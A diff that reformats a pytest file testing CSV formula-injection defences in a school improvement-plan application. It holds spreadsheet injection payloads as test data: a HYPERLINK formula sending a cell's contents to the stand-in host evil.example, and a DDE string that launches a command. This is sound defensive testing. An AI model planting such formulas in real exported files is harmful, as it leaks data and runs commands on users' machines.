@@ -26,27 +26,39 @@ DATA = Path(__file__).resolve().parents[1] / "data" / "results"
 LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Open the plan")'
 
 
-@pytest.mark.parametrize("text", [LINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
-                                  "-5%", "-0x10"])
+@pytest.mark.parametrize(
+    "text",
+    [LINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "-5%", "-0x10"],
+)
 def test_it_puts_an_apostrophe_before_text_a_spreadsheet_would_run(text: str) -> None:
     assert neutralise(text) == "'" + text
 
 
-@pytest.mark.parametrize("value", [-3.5, -5, 0, Decimal("-1.25"), None, "-3.5", "-5", "+2", "-1e3", "Aspen", "",
-                                   "a=b", " =1+1"])
+@pytest.mark.parametrize(
+    "value",
+    [-3.5, -5, 0, Decimal("-1.25"), None, "-3.5", "-5", "+2", "-1e3", "Aspen", "", "a=b", " =1+1"],
+)
 def test_it_leaves_numbers_plain_numbers_and_ordinary_text_alone(value: object) -> None:
     assert neutralise(value) == value
 
 
 def test_the_written_csv_holds_the_neutralised_cells() -> None:
     text = csv_text(["name", "value"], [[LINK, -3.5], ["-5", "@x"]])
-    assert list(csv.reader(io.StringIO(text))) == [["name", "value"], ["'" + LINK, "-3.5"], ["-5", "'@x"]]
+    assert list(csv.reader(io.StringIO(text))) == [
+        ["name", "value"],
+        ["'" + LINK, "-3.5"],
+        ["-5", "'@x"],
+    ]
 
 
 def formula_cells(text: str) -> list[str]:
     """Every cell of a CSV that a spreadsheet would run as a formula."""
-    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
-            if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not PLAIN_NUMBER.fullmatch(cell)]
+    return [
+        cell
+        for row in csv.reader(io.StringIO(text))
+        for cell in row
+        if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not PLAIN_NUMBER.fullmatch(cell)
+    ]
 
 
 @pytest.fixture
@@ -54,12 +66,33 @@ def planted_plan(world):
     from tests.planning.test_exports import assessment
 
     principal = world.personas["principal_a1"]
-    plan = services.plan_create(user=principal, school=world.school_a1, school_year="2018-19", title=LINK)
-    goal = services.goal_add(plan=plan, user=principal, seen=plan.version, statement=LINK, area="mathematics")
-    services.target_add(goal=goal, user=principal, seen=plan.version, measure="custom", description="@SUM(1+1)",
-                        baseline_year="2017-18", baseline_value=40.0, target_value=60.0, target_year="2019-20")
-    services.target_add(goal=goal, user=principal, seen=plan.version, assessment=assessment("G6-MATH"),
-                        baseline_year="2017-18", baseline_value=40.0, target_value=60.0, target_year="2019-20")
+    plan = services.plan_create(
+        user=principal, school=world.school_a1, school_year="2018-19", title=LINK
+    )
+    goal = services.goal_add(
+        plan=plan, user=principal, seen=plan.version, statement=LINK, area="mathematics"
+    )
+    services.target_add(
+        goal=goal,
+        user=principal,
+        seen=plan.version,
+        measure="custom",
+        description="@SUM(1+1)",
+        baseline_year="2017-18",
+        baseline_value=40.0,
+        target_value=60.0,
+        target_year="2019-20",
+    )
+    services.target_add(
+        goal=goal,
+        user=principal,
+        seen=plan.version,
+        assessment=assessment("G6-MATH"),
+        baseline_year="2017-18",
+        baseline_value=40.0,
+        target_value=60.0,
+        target_year="2019-20",
+    )
     return plan
 
 
@@ -67,7 +100,9 @@ def test_no_plans_csv_carries_a_formula(client, world, planted_plan) -> None:
     client.force_login(world.personas["ministry"])
     download = client.get("/plans/export.csv").content.decode()
     rows = list(csv.DictReader(io.StringIO(download)))
-    assert {row["goal"] for row in rows} == {"'" + LINK} and "'@SUM(1+1)" in {row["description"] for row in rows}
+    assert {row["goal"] for row in rows} == {"'" + LINK} and "'@SUM(1+1)" in {
+        row["description"] for row in rows
+    }
     assert {row["baseline_value"] for row in rows} == {"40"}  # the figures stay numbers
     command = runner.invoke(app, ["plans", "export", "--format", "csv"])
     assert command.exit_code == 0, command.output
@@ -77,13 +112,21 @@ def test_no_plans_csv_carries_a_formula(client, world, planted_plan) -> None:
 
 def test_no_identification_csv_carries_a_formula(tmp_path: Path) -> None:
     planted = tmp_path / "long.csv"
-    planted.write_text((DATA / "long.csv").read_text(encoding="utf-8").replace("Aspen Public School", LINK.replace(
-        '"', '""').join('""')), encoding="utf-8")
+    planted.write_text(
+        (DATA / "long.csv")
+        .read_text(encoding="utf-8")
+        .replace("Aspen Public School", LINK.replace('"', '""').join('""')),
+        encoding="utf-8",
+    )
     policy = tmp_path / "one-year.toml"
-    policy.write_text('name = "one-year"\nversion = 1\ntitle = "Under 50% on 4 of 6, one year"\n[rule]\n'
-                      'assessments = ["G3-READ", "G3-WRITE", "G3-MATH", "G6-READ", "G6-WRITE", "G6-MATH"]\n'
-                      "threshold = 50.0\nmin_assessments_below = 4\nyears = 1\n")
-    result = runner.invoke(app, ["identify", "--results", str(planted), "--policy", str(policy), "--format", "csv"])
+    policy.write_text(
+        'name = "one-year"\nversion = 1\ntitle = "Under 50% on 4 of 6, one year"\n[rule]\n'
+        'assessments = ["G3-READ", "G3-WRITE", "G3-MATH", "G6-READ", "G6-WRITE", "G6-MATH"]\n'
+        "threshold = 50.0\nmin_assessments_below = 4\nyears = 1\n"
+    )
+    result = runner.invoke(
+        app, ["identify", "--results", str(planted), "--policy", str(policy), "--format", "csv"]
+    )
     assert result.exit_code == 0, result.output
     assert "'" + LINK in {row["school_name"] for row in csv.DictReader(io.StringIO(result.stdout))}
     assert formula_cells(result.stdout) == []
@@ -100,8 +143,10 @@ def test_a_problems_csv_neutralises_a_column_or_reason_taken_from_the_file() -> 
 
 def test_no_problems_csv_carries_a_formula(client, world, settings, tmp_path) -> None:
     settings.MEDIA_ROOT = tmp_path
-    bad = ("school_number,school_year,assessment,group,participating,pct_at_standard,status\n"
-           "=HYPERLINK(1),2018-19,G3-READ,all,40,=1+1,@nr\n")
+    bad = (
+        "school_number,school_year,assessment,group,participating,pct_at_standard,status\n"
+        "=HYPERLINK(1),2018-19,G3-READ,all,40,=1+1,@nr\n"
+    )
     client.force_login(world.personas["ministry"])
     client.post("/evidence/imports/", {"file": SimpleUploadedFile("results.csv", bad.encode())})
     from capacity.evidence.models import ResultImport
